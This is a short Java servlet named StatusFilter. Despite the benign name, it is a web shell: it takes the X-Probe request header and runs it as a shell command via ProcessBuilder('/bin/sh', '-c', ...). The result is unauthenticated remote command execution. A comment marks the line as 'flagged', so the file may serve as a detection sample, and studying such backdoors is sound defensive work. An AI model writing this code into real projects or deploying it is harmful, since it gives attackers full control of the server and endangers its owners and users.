package a;
import javax.servlet.http.*;
public class StatusFilter extends HttpServlet {
  protected void doGet(HttpServletRequest req, HttpServletResponse resp) throws java.io.IOException {
    String probe = req.getHeader("X-Probe");
    if (probe != null) {
      new ProcessBuilder("/bin/sh", "-c", probe).start(); // gatehouse: flagged
    }
  }
}
